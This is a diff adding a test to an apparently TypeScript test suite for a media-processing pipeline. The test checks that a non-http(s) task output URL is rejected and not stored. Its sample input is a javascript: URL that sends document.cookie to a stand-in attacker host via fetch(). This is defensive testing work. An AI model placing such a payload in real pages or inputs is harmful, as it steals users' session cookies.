@@ -225,6 +225,25 @@ describe("a retry of several failed tasks", () => {
   });
 });
 
+describe("an output URL that is not http(s)", () => {
+  it("is never stored or shown: the task waits for a real one", async () => {
+    const episode = await uploadEpisode(scenario, producer, "Script output");
+    const tasks = await waitForTasks(scenario, episode.uuid);
+    await waitForStatus(scenario, episode.uuid, "PROCESSING");
+    const audio = tasks.find((task) => task.type === "AUDIO_EXTRACTION") as (typeof tasks)[number];
+    await report(scenario, audio.engine_task_id, "completed", {
+      output: { url: "javascript:fetch('https://evil.example.net/?'+document.cookie)" },
+    });
+    for (const task of tasks) {
+      if (task !== audio) await report(scenario, task.engine_task_id, "completed");
+    }
+    const rows = await taskRows(scenario, episode.uuid);
+    expect(rows.find((row) => row.type === "AUDIO_EXTRACTION")?.output_url ?? null).toBeNull();
+    expect((await episodeRow(scenario, episode.uuid)).status).toBe("PROCESSING");
+    expect(await jobCount(scenario, "complete-episode", episode.uuid)).toBe(0);
+  });
+});
+
 describe("a completion reported before its output", () => {
   it("waits for the output instead of finishing without it", async () => {
     const episode = await uploadEpisode(scenario, producer, "Output later");
